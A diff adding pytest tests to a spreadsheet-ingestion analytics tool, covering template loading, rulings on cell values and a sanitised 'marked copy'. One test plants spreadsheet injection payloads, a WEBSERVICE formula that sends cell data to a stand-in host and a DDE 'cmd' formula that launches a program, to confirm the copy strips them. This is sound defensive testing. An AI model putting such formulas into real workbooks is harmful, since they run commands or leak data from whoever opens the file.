@@ -12,11 +12,14 @@ import pytest
 from small_project import published, small_project
 
 from opdat_analytics import cli
+from opdat_analytics.answers.check import check
 from opdat_analytics.answers.decide import apply_decisions, decisions_workbook
 from opdat_analytics.answers.forms import DATE, KINDS, OFFICE
+from opdat_analytics.answers.marked import marked_copy
 from opdat_analytics.answers.template import plan, template
 from opdat_analytics.answers.template_sheets import example_lines
 from opdat_analytics.model import Home
+from opdat_analytics.provenance import explain
 from opdat_analytics.refresh import refresh
 
 
@@ -68,6 +71,36 @@ def test_a_filled_template_loads_without_a_declaration_and_nothing_is_held(
     assert not report.newly_held
     table = "observations" if kind == "outcomes" else kind
     assert len(published(home, table)) == len(example_lines(plan(kind, language)))
+
+
+def test_templates_directly_in_the_raw_folder_are_one_source_and_can_be_ruled_on(tmp_path: Path) -> None:
+    home, path = project(tmp_path, filled("outcomes", "en", A6="Republica de Guatemala del Sur"))
+    loose = path.rename(home.raw / "guatemala.xlsx")
+    path.parent.rmdir()
+    assert refresh(home).exit_code == 3
+    assert set(published(home, "issues")["file"]) == {"returns/guatemala.xlsx"}
+    (cell,) = published(home, "issues")["cell"]
+    shown = explain({"source": "returns"}, home=home)
+    assert shown.pieces, "the sheet around the cells is shown, though the file lies in no folder"
+
+    done = apply_decisions(ruled(home, G2="alias", H2="GTM", J2="the office says so"), home)
+
+    assert done.written == {"returns": 1}, cell
+    assert refresh(home).exit_code == 0
+    assert check(loose, home).exit_code == 0
+    assert "Guatemala del Sur" in (home.raw / "returns" / "source.toml").read_text(encoding="utf-8")
+
+
+def test_any_other_spreadsheet_directly_in_the_raw_folder_is_never_passed_over(tmp_path: Path) -> None:
+    home, _ = project(tmp_path, filled("outcomes", "en"))
+    (home.raw / "stray.csv").write_text("Country,2020\nGuatemala,5\n", encoding="utf-8")
+
+    report = refresh(home)
+
+    assert report.exit_code == 4
+    assert [issue["file"] for issue in report.stopped] == ["returns/stray.csv"]
+    assert "must be a filled-in template" in report.stopped[0]["message"]
+    assert len(published(home, "observations"))
 
 
 def test_the_figures_of_a_template_are_what_was_entered(tmp_path: Path) -> None:
@@ -159,3 +192,64 @@ def test_a_ruling_on_a_cell_that_changed_is_refused_and_nothing_is_written(tmp_p
     done = apply_decisions(decisions, home)
     assert done.refused[0].startswith("D2: courts/returns_2023.csv › returns_2023!C2 said “abc” and now says “abd”")
     assert (home.raw / "courts" / "source.toml").read_bytes() == before
+
+
+def test_the_copy_says_what_was_taken_in_the_senders_words(tmp_path: Path) -> None:
+    home, path = project(tmp_path, filled("outcomes", "es"))
+
+    front = openpyxl.load_workbook(io.BytesIO(marked_copy(check(path, home)))).worksheets[0]
+
+    said = {str(cell.value) for row in front.iter_rows() for cell in row if cell.value is not None}
+    assert "Condenas" in said
+    assert any("Panamá" in text for text in said)
+    assert "convictions" not in said
+
+
+def test_a_figure_printed_twice_is_marked_at_both_its_cells(tmp_path: Path) -> None:
+    home, path = project(tmp_path, filled("outcomes", "en", A6="Guatemala", B6="2023", C6="Convictions", D6="99"))
+    book = openpyxl.load_workbook(path)
+    for column in "EFGHIJKL":
+        book["Outcomes"][f"{column}6"] = book["Outcomes"][f"{column}5"].value
+    book["Outcomes"]["B6"] = book["Outcomes"]["B5"].value
+    book.save(path)
+
+    marked = openpyxl.load_workbook(io.BytesIO(marked_copy(check(path, home))))["Outcomes"]
+
+    assert {cell.coordinate for row in marked.iter_rows() for cell in row if cell.comment} == {"D5", "D6"}
+
+
+def test_the_copy_fetches_nothing_names_nobody_and_has_the_same_bytes_each_time(tmp_path: Path) -> None:
+    book = filled("outcomes", "en")
+    data = book["Outcomes"]
+    data["N5"] = '=WEBSERVICE("http://example.org/"&A5)'
+    data["N6"] = "=cmd|' /C calc'!A0"
+    data["N7"] = "=SUM(D5:D6)"
+    data["O5"] = "the list"
+    data["O5"].hyperlink = "file:///C:/Users/someone/list.xlsx"
+    book.properties.creator, book.properties.lastModifiedBy = "A. Sender", "A. Sender"
+    home, path = project(tmp_path, book)
+
+    copy = marked_copy(check(path, home))
+
+    assert marked_copy(check(path, home)) == copy
+    with ZipFile(io.BytesIO(copy)) as archive:
+        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
+    everything = "\n".join(parts.values())
+    for planted in ("WEBSERVICE", "cmd|", "someone", "A. Sender"):
+        assert planted not in everything
+    assert "SUM(D5:D6)" in everything
+
+
+def test_a_word_for_a_measure_can_be_ruled_on_too(tmp_path: Path) -> None:
+    home, path = project(tmp_path, filled("outcomes", "es", C5="Sentencias firmes"))
+    assert refresh(home).exit_code == 3
+
+    assert apply_decisions(ruled(home, G2="alias", H2="conviction", J2="as they say"), home).refused == (
+        "H2: “conviction” is neither a place code nor a measure; see `opdat show places` and `opdat show measures`. "
+        "Did you mean “convictions”?",
+    )
+    assert apply_decisions(ruled(home, G2="alias", H2="convictions", J2="as they say"), home).written == {"office": 1}
+
+    assert refresh(home).exit_code == 0
+    assert published(home, "observations").set_index("place").loc["GTM", "measure"] == "convictions"
+    assert check(path, home).exit_code == 0
